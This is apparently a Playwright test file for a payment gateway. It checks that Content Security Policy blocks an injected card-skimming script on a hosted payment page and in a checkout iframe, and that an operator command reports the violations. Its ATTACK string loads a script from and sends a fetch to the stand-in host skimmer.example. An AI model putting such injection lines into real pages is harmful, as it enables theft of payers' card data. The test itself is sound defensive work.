import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { Frame } from "playwright-core";
import { browserSetup, type VisitOptions } from "../support/browser.ts";
import { eventually } from "../support/eventually.ts";
import { createHosted, hostedPage } from "../support/hosted-page.ts";
import { typeCommand } from "../support/typed-command.ts";

type Report = Readonly<Record<"page" | "directive" | "blocked" | "source", string>>;

const WITHIN = 30_000;

/** What a script that got into the page would do: load another one, run one inline, send data away. */
const ATTACK = `
  document.head.append(Object.assign(document.createElement("script"), { src: "https://skimmer.example/card.js" }));
  document.head.append(Object.assign(document.createElement("script"), { textContent: "window.evil = 1" }));
  fetch("https://skimmer.example/stolen").catch(() => {});
`;
const ATTACKED: VisitOptions = {
  stopped: /script-src|connect-src|skimmer\.example/,
  vendors: ["https://skimmer.example"],
};

describe("a payment page reports what Chromium blocked on it, and the operator's command shows it", () => {
  const setup = browserSetup();

  const shown = async (page: string): Promise<readonly string[]> => {
    const { json } = await typeCommand(setup.gateway, "pages", "reports", "--json");
    const { reports } = json as { readonly reports: readonly Report[] };
    return reports
      .filter((one) => one.page === page)
      .map(({ directive, blocked }) => `${directive} ${blocked}`)
      .sort();
  };

  async function attack(page: string, frame: Frame): Promise<void> {
    assert.deepEqual(await shown(page), [], "a page as it is reports nothing");
    await frame.evaluate(ATTACK);
    assert.equal(await frame.evaluate("window.evil"), undefined);
    const expected = [
      "connect-src https://skimmer.example",
      "script-src-elem https://skimmer.example",
      "script-src-elem inline",
    ];
    await eventually(
      `the reports of ${page} are shown`,
      async () => (await shown(page)).length >= expected.length,
      WITHIN,
    );
    assert.deepEqual(await shown(page), expected);
  }

  test("of the hosted page", async () => {
    await setup.visit(async (payer) => {
      const { hostedPaymentPage } = await createHosted(setup.shop);
      const hosted = hostedPage(await payer.context.newPage());
      await hosted.page.goto(hostedPaymentPage.url);
      await hosted.waitFor("ready");
      await attack("hosted_page", hosted.page.mainFrame());
    }, ATTACKED);
  });

  test("of the checkout's frame in a merchant's page", async () => {
    await setup.visit(async (payer) => {
      const { token } = await setup.request();
      const checkout = await payer.open({ token });
      await checkout.waitFor("ready");
      const frame = checkout.page.frames().find((one) => one.url().startsWith(setup.gateway.hostedUrl));
      await attack("checkout_frame", frame ?? assert.fail("no frame"));
    }, ATTACKED);
  });
});
